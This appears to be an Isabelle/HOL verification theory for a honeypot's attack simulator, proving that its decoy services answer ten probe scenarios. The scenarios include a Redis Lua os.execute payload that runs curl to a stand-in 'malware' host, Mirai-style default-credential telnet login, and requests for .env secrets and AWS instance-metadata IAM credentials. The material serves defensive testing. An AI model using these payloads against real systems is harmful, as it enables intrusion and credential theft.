(* ===== verification/Simulator.thy ===== *)
theory Simulator
  imports Multiplexer
begin

text \<open>
  The adversary simulator of \<open>internal/adversary/simulator.go\<close> and the \<open>simulate\<close> command that runs its ten
  scenarios. The network is a record of what it answers: whether an address can be dialled, whether a
  payload can be sent, what one read of at most 2048 bytes returns, and the outcome of an HTTP GET. One
  such network is the default mesh itself, with the decoys' own handlers behind its ports.
\<close>

section \<open>Scenarios\<close>

record AttackScenario =
  ScName :: string
  Protocol :: string
  ScPort :: int
  Payload :: string
  ExpectMatch :: string

record AttackSimulator =
  TargetHost :: string
  Timeout :: duration

definition NewSimulator :: "string \<Rightarrow> duration \<Rightarrow> AttackSimulator" where
  "NewSimulator host timeout =
     (let host = (if host = [] then ''127.0.0.1'' else host);
          timeout = (if timeout = 0 then 2 * second else timeout)
      in \<lparr>TargetHost = host, Timeout = timeout\<rparr>)"

definition scenario :: "string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> string \<Rightarrow> AttackScenario" where
  "scenario nm proto port payload expect =
     \<lparr>ScName = nm, Protocol = proto, ScPort = port, Payload = payload, ExpectMatch = expect\<rparr>"

definition get_line :: "string \<Rightarrow> string \<Rightarrow> string" where
  "get_line path host = ''GET '' @ path @ '' HTTP/1.1'' @ crlf @ ''Host: '' @ host @ crlf @ crlf"

definition redis_eval :: AttackScenario where
  "redis_eval =
     scenario ''Redis EVAL Lua Exploit'' ''tcp'' 6379
        (''EVAL '' @ quot @ ''os.execute('' @ [CHR 0x27] @ ''curl http://malware'' @ [CHR 0x27] @ '')'' @ quot @ '' 0'' @ crlf) ''ERR''"

definition telnet_mirai :: AttackScenario where
  "telnet_mirai =
     scenario ''Telnet Mirai Botnet Recon'' ''tcp'' 2323
        (''admin'' @ nl @ ''123456'' @ nl @ ''/bin/busybox MIRAI'' @ nl @ ''exit'' @ nl) ''login:''"

definition mqtt_publish :: AttackScenario where
  "mqtt_publish =
     scenario ''MQTT IoT Exploit Publish'' ''tcp'' 1883
        (string_of_bytes [0x10, 0x0c, 0x00, 0x04] @ ''MQTT'' @ string_of_bytes [0x04, 0x02, 0x00, 0x3c, 0x00, 0x00]) []"

definition smb_negotiate :: AttackScenario where
  "smb_negotiate =
     scenario ''SMBv2 Protocol Negotiation'' ''tcp'' 4445
        (string_of_bytes [0x00, 0x00, 0x00, 0x08, 0xfe] @ ''SMB'' @ string_of_bytes [0x00, 0x00, 0x00, 0x00]) []"

definition http_env :: AttackScenario where
  "http_env =
     scenario ''HTTP Actuator / Env Leak Probe'' ''http'' 8080 (get_line ''/.env'' ''target'') ''AWS_SECRET_ACCESS_KEY''"

definition imds_role :: AttackScenario where
  "imds_role =
     scenario ''AWS IMDS SSRF IAM Role Exfiltration'' ''http'' 8169
        (get_line ''/latest/meta-data/iam/security-credentials/admin-role'' ''169.254.169.254'') ''AccessKeyId''"

definition modbus_probe :: AttackScenario where
  "modbus_probe =
     scenario ''Modbus/TCP SCADA Holding Registers Probe'' ''tcp'' 1502
        (string_of_bytes [0x00, 0x01, 0x00, 0x00, 0x00, 0x06, 0x01, 0x03, 0x00, 0x00, 0x00, 0x02]) []"

definition postgres_ssl :: AttackScenario where
  "postgres_ssl =
     scenario ''PostgreSQL 3.0 Startup Handshake'' ''tcp'' 5432
        (string_of_bytes [0x00, 0x00, 0x00, 0x08, 0x04, 0xd2, 0x16, 0x2f]) ''N''"

definition docker_version :: AttackScenario where
  "docker_version =
     scenario ''Docker Engine Daemon Recon'' ''http'' 2375 (get_line ''/version'' ''target'') ''24.0.7''"

definition k8s_version :: AttackScenario where
  "k8s_version =
     scenario ''Kubernetes Control Plane API Discovery'' ''http'' 6443 (get_line ''/version'' ''target'') ''v1.29.2''"

definition DefaultScenarios :: "AttackScenario list" where
  "DefaultScenarios =
     [redis_eval, telnet_mirai, mqtt_publish, smb_negotiate, http_env, imds_role, modbus_probe, postgres_ssl,
      docker_version, k8s_version]"

section \<open>Running one\<close>

datatype read_end = ReadOk | ReadEOF | ReadFailed string
datatype http_outcome = BadURL string | DoFailed string | BodyFailed string | HttpBody string

record SimNet =
  dial :: "string \<Rightarrow> string option"
  send :: "string \<Rightarrow> string \<Rightarrow> string option"
  receive :: "string \<Rightarrow> string \<Rightarrow> string \<times> read_end"
  http_get :: "string \<Rightarrow> http_outcome"

definition match_result :: "AttackScenario \<Rightarrow> string \<Rightarrow> string \<times> string option" where
  "match_result sc res =
     (if ExpectMatch sc \<noteq> [] \<and> \<not> str_contains res (ExpectMatch sc)
      then (res, Some (''expected match '' @ quote_go (ExpectMatch sc) @ '' not found in response''))
      else (res, None))"

definition request_url :: "string \<Rightarrow> AttackScenario \<Rightarrow> string" where
  "request_url addr sc =
     (if has_prefix (Payload sc) ''GET '' then
        (case split_char CHR 0x20 (Payload sc) of
           _ # path # _ \<Rightarrow> ''http://'' @ addr @ path
         | _ \<Rightarrow> ''http://'' @ addr)
      else ''http://'' @ addr)"

definition RunScenario :: "SimNet \<Rightarrow> AttackSimulator \<Rightarrow> AttackScenario \<Rightarrow> string \<times> string option" where
  "RunScenario net s sc =
     (let addr = TargetHost s @ '':'' @ dec (ScPort sc) in
      if Protocol sc = ''tcp'' then
        (case dial net addr of
           Some err \<Rightarrow> ([], Some err)
         | None \<Rightarrow>
             (case (if Payload sc \<noteq> [] then send net addr (Payload sc) else None) of
                Some err \<Rightarrow> ([], Some err)
              | None \<Rightarrow>
                  (case receive net addr (Payload sc) of
                     (got, ReadFailed err) \<Rightarrow> ([], Some err)
                   | (got, _) \<Rightarrow> match_result sc (take 2048 got))))
      else if Protocol sc = ''http'' then
        (case http_get net (request_url addr sc) of
           BadURL err \<Rightarrow> ([], Some err)
         | DoFailed err \<Rightarrow> ([], Some err)
         | BodyFailed err \<Rightarrow> ([], Some err)
         | HttpBody body \<Rightarrow> match_result sc body)
      else ([], Some (''unsupported protocol '' @ quote_go (Protocol sc))))"

text \<open>The loop of the command and of the TUI: the error of every scenario, and the two counts.\<close>

definition simulate_all :: "SimNet \<Rightarrow> AttackSimulator \<Rightarrow> AttackScenario list \<Rightarrow> (AttackScenario \<times> string option) list" where
  "simulate_all net s scs = map (\<lambda>sc. (sc, snd (RunScenario net s sc))) scs"

definition simulate_counts :: "(AttackScenario \<times> string option) list \<Rightarrow> nat \<times> nat" where
  "simulate_counts rs = (length (filter (\<lambda>r. snd r = None) rs), length (filter (\<lambda>r. snd r \<noteq> None) rs))"

definition sword :: string where
  "sword = [CHR 0xE2, CHR 0x9A, CHR 0x94, CHR 0xEF, CHR 0xB8, CHR 0x8F]"

definition dart :: string where
  "dart = [CHR 0xF0, CHR 0x9F, CHR 0x8E, CHR 0xAF]"

definition simulate_line :: "nat \<Rightarrow> nat \<Rightarrow> AttackScenario \<times> string option \<Rightarrow> string" where
  "simulate_line n i = (\<lambda>(sc, err).
     ''['' @ dec_nat (Suc i) @ ''/'' @ dec_nat n @ ''] '' @ dart @ '' Testing '' @ ScName sc @ '' ('' @ Protocol sc @ ''/''
     @ dec (ScPort sc) @ '')... '' @
     (case err of
        Some e \<Rightarrow> [CHR 0xE2, CHR 0x9A, CHR 0xA0, CHR 0xEF, CHR 0xB8, CHR 0x8F] @ ''  Failed/Closed: '' @ e @ nl
      | None \<Rightarrow> [CHR 0xE2, CHR 0x9C, CHR 0x85] @ '' Intercepted & Baited!'' @ nl))"

definition runSimulate :: "SimNet \<Rightarrow> string \<Rightarrow> string" where
  "runSimulate net host =
     (let rs = simulate_all net (NewSimulator host (2 * second)) DefaultScenarios
      in sword @ ''  Launching synthetic adversary attack suite against '' @ host @ nl
         @ concat (map (\<lambda>(i, r). simulate_line (length rs) i r) (enumerate 0 rs))
         @ [CHR 0xE2, CHR 0x9C, CHR 0xA8] @ '' Adversarial simulation complete.'' @ nl)"

section \<open>The default mesh as the network\<close>

text \<open>
  The ideal network in front of the default mesh: a port is open exactly if a default service is configured
  on it, a whole payload arrives as one segment, and the whole answer of the handler is there for one read;
  a handler that writes nothing leaves the client to its deadline. An HTTP GET sends the request text
  \<open>client_request\<close> and gets the part of the answer after its first empty line.
\<close>

definition served :: "read_request \<Rightarrow> (conn \<Rightarrow> SshOutcome) \<Rightarrow> int \<Rightarrow> (conn \<Rightarrow> io list) option" where
  "served rr lib port =
     (case find (\<lambda>(n, p). p = port) default_services of
        None \<Rightarrow> None
      | Some (n, _) \<Rightarrow> map_option Handle (map_of (decoy_list rr lib) n))"

definition answer :: "(conn \<Rightarrow> io list) \<Rightarrow> string \<Rightarrow> string" where
  "answer handle payload =
     concat (written (handle \<lparr>conn_addr = ''127.0.0.1:40000'', conn_segs = [payload], conn_clock = (\<lambda>_. 0)\<rparr>))"

fun after_blank :: "string \<Rightarrow> string" where
  "after_blank [] = []"
| "after_blank (c # s) = (if has_prefix (c # s) (crlf @ crlf) then drop 3 s else after_blank s)"

definition client_request :: "string \<Rightarrow> string \<Rightarrow> string" where
  "client_request hostport path =
     ''GET '' @ path @ '' HTTP/1.1'' @ crlf @ ''Host: '' @ hostport @ crlf @ ''User-Agent: Go-http-client/1.1'' @ crlf
     @ ''Accept-Encoding: gzip'' @ crlf @ crlf"

definition addr_port :: "string \<Rightarrow> int" where
  "addr_port hostport = int (undec (drop 1 (dropWhile (\<lambda>c. c \<noteq> CHR '':'') hostport)))"

definition mesh_reply :: "read_request \<Rightarrow> (conn \<Rightarrow> SshOutcome) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option" where
  "mesh_reply rr lib hostport payload =
     map_option (\<lambda>handle. answer handle payload) (served rr lib (addr_port hostport))"

definition mesh_net :: "read_request \<Rightarrow> (conn \<Rightarrow> SshOutcome) \<Rightarrow> SimNet" where
  "mesh_net rr lib =
     \<lparr>dial = (\<lambda>addr. if served rr lib (addr_port addr) = None then Some ''connection refused'' else None),
      send = (\<lambda>_ _. None),
      receive = (\<lambda>addr payload.
        (case mesh_reply rr lib addr payload of
           Some (c # s) \<Rightarrow> (c # s, ReadOk)
         | _ \<Rightarrow> ([], ReadFailed ''i/o timeout''))),
      http_get = (\<lambda>url.
        (let rest = drop 7 url; hostport = takeWhile (\<lambda>c. c \<noteq> CHR ''/'') rest; path = dropWhile (\<lambda>c. c \<noteq> CHR ''/'') rest
         in case mesh_reply rr lib hostport (client_request hostport path) of
              None \<Rightarrow> DoFailed ''connection refused''
            | Some s \<Rightarrow> HttpBody (after_blank s)))\<rparr>"

text \<open>What is asked of \<open>http.ReadRequest\<close>: it reads the GET that the client of the same library writes.\<close>

definition parses_gets :: "read_request \<Rightarrow> bool" where
  "parses_gets rr \<longleftrightarrow>
     (\<forall>hostport path. CHR 0x20 \<notin> set path \<longrightarrow>
        (\<exists>h b. rr (client_request hostport path) = Some \<lparr>Method = ''GET'', Path = path, Header = h, BodyRead = b\<rparr>))"

lemma served_defaults:
  "served rr lib 6379 = Some redis_HandleConnection" "served rr lib 2323 = Some telnet_HandleConnection"
  "served rr lib 1883 = Some mqtt_HandleConnection" "served rr lib 4445 = Some smb_HandleConnection"
  "served rr lib 8080 = Some (http_HandleConnection rr)" "served rr lib 8169 = Some (aws_HandleConnection rr)"
  "served rr lib 5432 = Some postgres_HandleConnection" "served rr lib 2375 = Some (docker_HandleConnection rr)"
  "served rr lib 6443 = Some (k8s_HandleConnection rr)" "served rr lib 1502 = None"
  by (simp_all add: served_def default_services_def decoy_list_defs)

lemma mesh_net_simps:
  "served rr lib (addr_port addr) = Some handle \<Longrightarrow> dial (mesh_net rr lib) addr = None"
  "served rr lib (addr_port addr) = None \<Longrightarrow> dial (mesh_net rr lib) addr = Some ''connection refused''"
  "send (mesh_net rr lib) addr p = None"
  "served rr lib (addr_port addr) = Some handle \<Longrightarrow> answer handle p = c # t \<Longrightarrow>
     receive (mesh_net rr lib) addr p = (c # t, ReadOk)"
  by (simp_all add: mesh_net_def mesh_reply_def)

lemma tcp_scenario:
  assumes "Protocol sc = ''tcp''" "served rr lib (addr_port (TargetHost s @ '':'' @ dec (ScPort sc))) = Some handle"
    and "answer handle (Payload sc) = u @ ExpectMatch sc @ v" "answer handle (Payload sc) \<noteq> []"
    and "length (u @ ExpectMatch sc) \<le> 2048"
  shows "snd (RunScenario (mesh_net rr lib) s sc) = None"
proof -
  obtain c t where a: "answer handle (Payload sc) = c # t" using assms(4) by (cases "answer handle (Payload sc)") auto
  have "take 2048 (c # t) = u @ ExpectMatch sc @ take (2048 - length (u @ ExpectMatch sc)) v"
    using assms(3,5) unfolding a by simp
  then have "str_contains (take 2048 (c # t)) (ExpectMatch sc)" by (simp only: str_contains_self_append)
  then show ?thesis
    unfolding RunScenario_def Let_def
    by (simp only: assms(1) if_True mesh_net_simps(1,4) [OF assms(2)] mesh_net_simps(3) a if_cancel option.case prod.case
        read_end.case match_result_def not_True_eq_False simp_thms if_False snd_conv)
qed

lemma http_scenario:
  assumes "Protocol sc = ''http''" "request_url (TargetHost s @ '':'' @ dec (ScPort sc)) sc = ''http://'' @ hostport @ path"
    and "CHR ''/'' \<notin> set hostport" "has_prefix path ''/''"
    and "served rr lib (addr_port hostport) = Some handle"
    and "after_blank (answer handle (client_request hostport path)) = body" "str_contains body (ExpectMatch sc)"
  shows "snd (RunScenario (mesh_net rr lib) s sc) = None"
proof -
  from assms(4) obtain t where path: "path = CHR ''/'' # t" by (cases path) auto
  have split: "takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (hostport @ path) = hostport" "dropWhile (\<lambda>c. c \<noteq> CHR ''/'') (hostport @ path) = path"
    using assms(3) unfolding path by (induction hostport) auto
  have "http_get (mesh_net rr lib) (''http://'' @ hostport @ path) = HttpBody body"
    using assms(5,6) split by (simp add: mesh_net_def mesh_reply_def)
  then show ?thesis using assms(1,2,7) by (simp add: RunScenario_def match_result_def)
qed

section \<open>The answers of the decoys\<close>

lemma answer_redis:
  "answer redis_HandleConnection
     (''EVAL '' @ quot @ ''os.execute('' @ [CHR 0x27] @ ''curl http://malware'' @ [CHR 0x27] @ '')'' @ quot @ '' 0'' @ crlf)
   = ''-ERR Error running script: sandbox evaluation blocked'' @ crlf"
proof -
  let ?l = "''EVAL '' @ quot @ ''os.execute('' @ [CHR 0x27] @ ''curl http://malware'' @ [CHR 0x27] @ '')'' @ quot @ '' 0''"
  have "trim_space (?l @ crlf) = ?l" by code_simp
  moreover have "str_fields ?l =
      [''EVAL'', quot @ ''os.execute('' @ [CHR 0x27] @ ''curl'', ''http://malware'' @ [CHR 0x27] @ '')'' @ quot, ''0'']"
    by code_simp
  ultimately show ?thesis
    by (simp add: answer_def redis_HandleConnection_def conn_in_def redis_loop.simps redis_step_def upper_char_def Let_def)
qed

lemma answer_telnet:
  "\<exists>v. answer telnet_HandleConnection p =
     ([CHR 0xFF, CHR 0xFD, CHR 0x01, CHR 0xFF, CHR 0xFD, CHR 0x03] @ crlf @ ''Embedded Linux Router (Busybox v1.31.1)'' @ crlf)
     @ ''login:'' @ v"
  by (simp add: answer_def telnet_HandleConnection_def)

lemma answer_mqtt:
  "answer mqtt_HandleConnection
     (string_of_bytes [0x10, 0x0c, 0x00, 0x04] @ ''MQTT'' @ string_of_bytes [0x04, 0x02, 0x00, 0x3c, 0x00, 0x00])
   = string_of_bytes [0x20, 0x02, 0x00, 0x00]"
proof -
  let ?s = "string_of_bytes [0x0c, 0x00, 0x04] @ ''MQTT'' @ string_of_bytes [0x04, 0x02, 0x00, 0x3c, 0x00, 0x00]"
  let ?p = "string_of_bytes [0x00, 0x04] @ ''MQTT'' @ string_of_bytes [0x04, 0x02, 0x00, 0x3c, 0x00, 0x00]"
  have d: "decodeRemainingLength ?s = Some (12, ?p)" by (simp add: decodeRemainingLength_def)
  have "mqtt_loop c 0 (char_of_byte 0x10 # ?s) =
      [Emit (mqtt_connect_event c 0 ?p), Write (string_of_bytes [0x20, 0x02, 0x00, 0x00])]" for c
    unfolding mqtt_loop.simps(2) d option.case prod.case
    by (simp add: ReadFull_def mqtt_packet_def mqtt_loop.simps(1))
  then show ?thesis by (simp add: answer_def mqtt_HandleConnection_def conn_in_def)
qed

lemma answer_smb:
  "answer smb_HandleConnection (string_of_bytes [0x00, 0x00, 0x00, 0x08, 0xfe] @ ''SMB'' @ string_of_bytes [0x00, 0x00, 0x00, 0x00])
   = string_of_bytes smb_resp"
  by (simp add: answer_def smb_HandleConnection_def conn_in_def ReadFull_def Let_def)

lemma answer_postgres:
  "answer postgres_HandleConnection (string_of_bytes [0x00, 0x00, 0x00, 0x08, 0x04, 0xd2, 0x16, 0x2f]) = ''N''"
proof -
  have "be32 [4, 0xd2, 0x16, 0x2f] = 80877103" by code_simp
  then show ?thesis by (simp add: answer_def postgres_HandleConnection_def conn_in_def ReadFull_def Let_def)
qed

text \<open>The body of an HTTP answer starts after its header lines.\<close>

lemma after_blank_text: "CHR 0x0D \<notin> set l \<Longrightarrow> after_blank (l @ s) = after_blank s"
  by (induction l) auto

lemma after_blank_crlf: "after_blank (crlf @ s) = (if has_prefix s crlf then drop 2 s else after_blank s)"
  by (simp add: numeral_2_eq_2)

lemma dec_no_cr: "CHR 0x0D \<notin> set (dec i)"
  by (auto dest!: dec_chars)

lemma after_blank_lines:
  "ls \<noteq> [] \<Longrightarrow> \<forall>l \<in> set ls. l \<noteq> [] \<and> CHR 0x0D \<notin> set l \<Longrightarrow>
   after_blank (concat (map (\<lambda>l. l @ crlf) ls) @ crlf @ body) = body"
proof (induction ls rule: induct_list012)
  case (2 l)
  then show ?case using after_blank_text [of l "crlf @ crlf @ body"] by (simp add: numeral_2_eq_2)
next
  case (3 l l' ls)
  let ?rest = "concat (map (\<lambda>l. l @ crlf) (l' # ls)) @ crlf @ body"
  have "\<not> has_prefix ?rest crlf" using 3(4) by (cases l') auto
  then have "after_blank (crlf @ ?rest) = after_blank ?rest" by (simp only: after_blank_crlf if_False)
  moreover have "after_blank ?rest = body" using 3 by simp
  ultimately show ?case using after_blank_text [of l "crlf @ ?rest"] 3(4) by simp
qed simp

lemma after_blank_responses:
  "CHR 0x0D \<notin> set ct \<Longrightarrow> after_blank (json_response ct code body) = body"
  "CHR 0x0D \<notin> set ct \<Longrightarrow> after_blank (http_response ct body) = body"
  "CHR 0x0D \<notin> set ct \<Longrightarrow> after_blank (imds_response ct [] body) = body"
proof -
  let ?len = "''Content-Length: '' @ dec (int (length body))"
  assume "CHR 0x0D \<notin> set ct"
  then show "after_blank (json_response ct code body) = body"
    using after_blank_lines [of "[''HTTP/1.1 '' @ dec code @ '' OK'', ''Content-Type: '' @ ct, ?len, ''Connection: close'']" body]
    by (simp add: json_response_def dec_no_cr del: after_blank.simps)
next
  let ?len = "''Content-Length: '' @ dec (int (length body))"
  assume "CHR 0x0D \<notin> set ct"
  then show "after_blank (http_response ct body) = body"
    using after_blank_lines [of "[''HTTP/1.1 200 OK'', ''Content-Type: '' @ ct, ?len, ''Server: nginx/1.22.1'', ''Connection: close'']" body]
    by (simp add: http_response_def dec_no_cr del: after_blank.simps)
next
  let ?len = "''Content-Length: '' @ dec (int (length body))"
  assume "CHR 0x0D \<notin> set ct"
  then show "after_blank (imds_response ct [] body) = body"
    using after_blank_lines [of "[''HTTP/1.1 200 OK'', ''Content-Type: '' @ ct, ?len, ''Server: EC2ws'', ''Connection: close'']" body]
    by (simp add: imds_response_def dec_no_cr del: after_blank.simps)
qed

text \<open>The four web scenarios, for any parser that reads the client's requests.\<close>

lemma web_answers:
  assumes "parses_gets rr"
  shows "after_blank (answer (docker_HandleConnection rr) (client_request hp ''/version'')) = docker_version_body"
    and "after_blank (answer (k8s_HandleConnection rr) (client_request hp ''/version'')) = k8s_version_body"
    and "after_blank (answer (http_HandleConnection rr) (client_request hp ''/.env'')) = http_env_body"
    and "after_blank (answer (aws_HandleConnection rr)
           (client_request hp ''/latest/meta-data/iam/security-credentials/admin-role'')) = imds_creds_body"
proof -
  have req: "\<exists>h b. rr (client_request hp path) = Some \<lparr>Method = ''GET'', Path = path, Header = h, BodyRead = b\<rparr>"
    if "CHR 0x20 \<notin> set path" for path
    using that assms by (simp add: parses_gets_def)
  show "after_blank (answer (docker_HandleConnection rr) (client_request hp ''/version'')) = docker_version_body"
    using req [of "''/version''"]
    by (auto simp: answer_def docker_HandleConnection_def conn_in_def docker_route_def after_blank_responses)
  show "after_blank (answer (k8s_HandleConnection rr) (client_request hp ''/version'')) = k8s_version_body"
    using req [of "''/version''"]
    by (auto simp: answer_def k8s_HandleConnection_def conn_in_def k8s_route_def Let_def after_blank_responses)
  show "after_blank (answer (http_HandleConnection rr) (client_request hp ''/.env'')) = http_env_body"
    using req [of "''/.env''"]
    by (auto simp: answer_def http_HandleConnection_def conn_in_def http_route_def after_blank_responses)
  show "after_blank (answer (aws_HandleConnection rr)
           (client_request hp ''/latest/meta-data/iam/security-credentials/admin-role'')) = imds_creds_body"
    using req [of "''/latest/meta-data/iam/security-credentials/admin-role''"]
    by (auto simp: answer_def aws_HandleConnection_def conn_in_def imds_route_def Let_def after_blank_responses)
qed

section \<open>The suite against the default mesh\<close>

lemma addr_port_dec: "0 \<le> p \<Longrightarrow> addr_port (''127.0.0.1:'' @ dec p) = p"
  by (simp add: addr_port_def dec_def)

definition local_sim :: AttackSimulator where
  "local_sim = NewSimulator [] 0"

lemma local_addr: "TargetHost local_sim @ '':'' @ dec p = ''127.0.0.1:'' @ dec p"
  by (simp add: local_sim_def NewSimulator_def)

lemma body_matches:
  "str_contains docker_version_body ''24.0.7''" "str_contains k8s_version_body ''v1.29.2''"
  "str_contains http_env_body ''AWS_SECRET_ACCESS_KEY''" "str_contains imds_creds_body ''AccessKeyId''"
  by code_simp+

lemma get_request_url:
  "CHR 0x20 \<notin> set path \<Longrightarrow> request_url addr (scenario nm proto p (get_line path host) e) = ''http://'' @ addr @ path"
  using split_char_append [of "CHR 0x20" path "''HTTP/1.1'' @ crlf @ ''Host: '' @ host @ crlf @ crlf"]
  by (simp add: request_url_def scenario_def get_line_def)

lemma scenario_simps [simp]:
  "Protocol (scenario nm proto p pl e) = proto" "ScPort (scenario nm proto p pl e) = p"
  "Payload (scenario nm proto p pl e) = pl" "ExpectMatch (scenario nm proto p pl e) = e" "ScName (scenario nm proto p pl e) = nm"
  by (simp_all add: scenario_def)

lemma tcp_local:
  assumes "served rr lib p = Some handle" "0 \<le> p" "answer handle payload = u @ e @ v" "answer handle payload \<noteq> []"
    "length (u @ e) \<le> 2048"
  shows "snd (RunScenario (mesh_net rr lib) local_sim (scenario nm ''tcp'' p payload e)) = None"
proof (rule tcp_scenario)
  show "served rr lib (addr_port (TargetHost local_sim @ '':'' @ dec (ScPort (scenario nm ''tcp'' p payload e)))) = Some handle"
    unfolding local_addr scenario_simps addr_port_dec [OF assms(2)] by (rule assms(1))
  show "answer handle (Payload (scenario nm ''tcp'' p payload e)) = u @ ExpectMatch (scenario nm ''tcp'' p payload e) @ v"
    unfolding scenario_simps by (rule assms(3))
  show "answer handle (Payload (scenario nm ''tcp'' p payload e)) \<noteq> []" unfolding scenario_simps by (rule assms(4))
  show "length (u @ ExpectMatch (scenario nm ''tcp'' p payload e)) \<le> 2048" unfolding scenario_simps by (rule assms(5))
qed (rule scenario_simps)

lemma web_local:
  assumes "served rr lib p = Some handle" "0 \<le> p" "CHR 0x20 \<notin> set path" "has_prefix path ''/''"
    "\<And>hp. after_blank (answer handle (client_request hp path)) = body" "str_contains body e"
  shows "snd (RunScenario (mesh_net rr lib) local_sim (scenario nm ''http'' p (get_line path host) e)) = None"
proof (rule http_scenario)
  show "request_url (TargetHost local_sim @ '':'' @ dec (ScPort (scenario nm ''http'' p (get_line path host) e)))
      (scenario nm ''http'' p (get_line path host) e) = ''http://'' @ (''127.0.0.1:'' @ dec p) @ path"
    unfolding get_request_url [OF assms(3)] local_addr scenario_simps ..
  have "CHR ''/'' \<notin> set (dec p)" by (auto dest!: dec_chars)
  then show "CHR ''/'' \<notin> set (''127.0.0.1:'' @ dec p)" by simp
  show "served rr lib (addr_port (''127.0.0.1:'' @ dec p)) = Some handle"
    unfolding addr_port_dec [OF assms(2)] by (rule assms(1))
  show "after_blank (answer handle (client_request (''127.0.0.1:'' @ dec p) path)) = body" by (rule assms(5))
  show "str_contains body (ExpectMatch (scenario nm ''http'' p (get_line path host) e))" using assms(6) by simp
qed (rule scenario_simps assms(4))+

lemma tcp_suite:
  "snd (RunScenario (mesh_net rr lib) local_sim redis_eval) = None"
  "snd (RunScenario (mesh_net rr lib) local_sim telnet_mirai) = None"
  "snd (RunScenario (mesh_net rr lib) local_sim mqtt_publish) = None"
  "snd (RunScenario (mesh_net rr lib) local_sim smb_negotiate) = None"
  "snd (RunScenario (mesh_net rr lib) local_sim postgres_ssl) = None"
proof -
  note sv = served_defaults [of rr lib]
  show "snd (RunScenario (mesh_net rr lib) local_sim redis_eval) = None"
    unfolding redis_eval_def
    by (rule tcp_local [OF sv(1) _, where u = "''-''" and v = "'' Error running script: sandbox evaluation blocked'' @ crlf"])
       (simp_all only: answer_redis, simp_all)
  obtain v where tel: "answer telnet_HandleConnection (''admin'' @ nl @ ''123456'' @ nl @ ''/bin/busybox MIRAI'' @ nl @ ''exit'' @ nl) =
      ([CHR 0xFF, CHR 0xFD, CHR 0x01, CHR 0xFF, CHR 0xFD, CHR 0x03] @ crlf @ ''Embedded Linux Router (Busybox v1.31.1)'' @ crlf)
      @ ''login:'' @ v" using answer_telnet by blast
  show "snd (RunScenario (mesh_net rr lib) local_sim telnet_mirai) = None"
    unfolding telnet_mirai_def by (rule tcp_local [OF sv(2) _ tel]) (simp_all only: tel, simp_all)
  show "snd (RunScenario (mesh_net rr lib) local_sim mqtt_publish) = None"
    unfolding mqtt_publish_def
    by (rule tcp_local [OF sv(3) _, where u = "[]" and v = "string_of_bytes [0x20, 0x02, 0x00, 0x00]"])
       (simp_all only: answer_mqtt, simp_all)
  show "snd (RunScenario (mesh_net rr lib) local_sim smb_negotiate) = None"
    unfolding smb_negotiate_def
    by (rule tcp_local [OF sv(4) _, where u = "[]" and v = "string_of_bytes smb_resp"])
       (simp_all only: answer_smb, simp_all add: smb_resp_def)
  show "snd (RunScenario (mesh_net rr lib) local_sim postgres_ssl) = None"
    unfolding postgres_ssl_def
    by (rule tcp_local [OF sv(7) _, where u = "[]" and v = "[]"]) (simp_all only: answer_postgres, simp_all)
qed

lemma web_suite:
  assumes "parses_gets rr"
  shows "snd (RunScenario (mesh_net rr lib) local_sim http_env) = None"
    "snd (RunScenario (mesh_net rr lib) local_sim imds_role) = None"
    "snd (RunScenario (mesh_net rr lib) local_sim docker_version) = None"
    "snd (RunScenario (mesh_net rr lib) local_sim k8s_version) = None"
proof -
  note sv = served_defaults [of rr lib] and web = web_answers [OF assms]
  show "snd (RunScenario (mesh_net rr lib) local_sim http_env) = None"
    unfolding http_env_def by (rule web_local [OF sv(5) _ _ _ web(3) body_matches(3)]) simp_all
  show "snd (RunScenario (mesh_net rr lib) local_sim imds_role) = None"
    unfolding imds_role_def by (rule web_local [OF sv(6) _ _ _ web(4) body_matches(4)]) simp_all
  show "snd (RunScenario (mesh_net rr lib) local_sim docker_version) = None"
    unfolding docker_version_def by (rule web_local [OF sv(8) _ _ _ web(1) body_matches(1)]) simp_all
  show "snd (RunScenario (mesh_net rr lib) local_sim k8s_version) = None"
    unfolding k8s_version_def by (rule web_local [OF sv(9) _ _ _ web(2) body_matches(2)]) simp_all
qed

lemma modbus_refused: "snd (RunScenario (mesh_net rr lib) local_sim modbus_probe) = Some ''connection refused''"
proof -
  have "served rr lib (addr_port (''127.0.0.1:'' @ dec 1502)) = None"
    by (simp only: addr_port_dec served_defaults(10) zero_le_numeral)
  from mesh_net_simps(2) [OF this] show ?thesis
    unfolding RunScenario_def Let_def modbus_probe_def scenario_simps local_addr
    by (simp only: if_True option.case snd_conv simp_thms)
qed


definition demo_get_parser :: read_request where
  "demo_get_parser s = Some \<lparr>Method = ''GET'', Path = takeWhile (\<lambda>c. c \<noteq> CHR 0x20) (drop 4 s), Header = (\<lambda>_. []), BodyRead = []\<rparr>"


end
